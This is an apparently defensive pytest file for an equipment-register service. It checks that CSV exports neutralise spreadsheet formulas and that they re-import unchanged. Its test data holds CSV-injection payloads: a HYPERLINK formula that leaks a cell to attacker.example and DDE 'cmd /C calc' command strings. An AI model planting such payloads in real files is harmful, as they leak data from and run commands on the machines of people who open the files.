"""Cells that a spreadsheet would run (``=``, ``+``, ``-``, ``@`` first) are stored as typed
but never leave Rivet as formulas: the CSV export defuses them, and the import reads the
export back unchanged."""

import csv
import io
import uuid

import httpx
import pytest
from security_support import Tenant

from rivet_devstack.testing.helpers import register
from rivet_gateway.routes import assets as gateway_assets

pytestmark = pytest.mark.security

HOSTILE = {
    "name": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "location": "+cmd|' /C calc'!A0",
    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
    "model": "-2+3+cmd|' /C calc'!A0",
    "equipment_type": "=cmd|' /C calc'!A0",
}
HEADERS = {"name": "Name", "location": "Location", "department": "Department",
           "model": "Model", "equipment_type": "Type"}  # fmt: skip


def _rows(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    text = answer.content.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


async def test_export_defuses_formulas_and_reimports_unchanged(
    client: httpx.AsyncClient, tenants: tuple[Tenant, Tenant]
) -> None:
    team, _ = tenants
    serial = f"CSV-{uuid.uuid4().hex[:10].upper()}"
    made = await client.post(
        "/api/equipment",
        json={"manufacturer": "Hitachi", "serial": serial, **HOSTILE},
        headers=team.technician.headers,
    )
    assert made.status_code == 201, made.text
    stored = made.json()["equipment"]
    assert {k: stored[k] for k in HOSTILE} == HOSTILE, "values are stored as typed"

    rows = _rows(await client.get("/api/equipment/export", headers=team.viewer.headers))
    (row,) = [r for r in rows if r["Serial Number"] == serial]
    for field, value in HOSTILE.items():
        assert row[HEADERS[field]] == "'" + value, field
    for cells in rows:
        for header, cell in cells.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (header, cell)

    # The export is an import file: a new organization takes it in, values as typed, and the
    # assets retired in it arrive retired (an admin's import, the row being the reason).
    retired = await client.post(
        f"/api/equipment/{stored['id']}/retire",
        json={"reason": "flooded"},
        headers=team.admin.headers,
    )
    assert retired.status_code == 200, retired.text
    newcomer = await register(client, "csv-roundtrip")
    export = (await client.get("/api/equipment/export", headers=team.admin.headers)).content
    imported = await client.post(
        "/api/equipment/import",
        params={"wait": 20},
        files={"file": ("equipment.csv", export, "text/csv")},
        headers=newcomer.headers,
    )
    assert imported.status_code == 200, imported.text
    report = imported.json()
    assert report["status"] == "done"
    assert report["rejected"] == 0, report["rows"]
    assert report["created"] == len(rows)
    again = _rows(await client.get("/api/equipment/export", headers=newcomer.headers))
    (copy,) = [r for r in again if r["Serial Number"] == serial]
    assert {h: copy[h] for h in HEADERS.values()} == {h: row[h] for h in HEADERS.values()}
    found = await client.get(
        "/api/equipment/search/fuzzy", params={"query": serial}, headers=newcomer.headers
    )
    asset = found.json()["items"][0]["equipment"]
    assert {k: asset[k] for k in HOSTILE} == HOSTILE
    assert asset["status"] == "retired"
    history = await client.get(f"/api/equipment/{asset['id']}/history", headers=newcomer.headers)
    (created,) = history.json()["items"]
    assert created["action"] == "created"
    assert created["reason"].startswith("retired in the imported register (equipment.csv, row")


async def test_export_follows_the_list_filters_and_pages_through_everything(
    client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(gateway_assets, "EXPORT_PART_ROWS", 2)  # three assets: two parts
    admin = await register(client, "csv-pages")
    for n in range(3):
        answer = await client.post(
            "/api/equipment",
            json={"manufacturer": "Baldor", "serial": f"PG-{n}", "location": f"Hall {n % 2}"},
            headers=admin.headers,
        )
        assert answer.status_code == 201, answer.text
    everything = _rows(await client.get("/api/equipment/export", headers=admin.headers))
    assert [r["Serial Number"] for r in everything] == ["PG-0", "PG-1", "PG-2"]
    hall = _rows(
        await client.get(
            "/api/equipment/export", params={"location": "Hall 1"}, headers=admin.headers
        )
    )
    assert [r["Serial Number"] for r in hall] == ["PG-1"]
    refused = await client.get(
        "/api/equipment/export", params={"status": "scrapped"}, headers=admin.headers
    )
    assert refused.status_code == 422
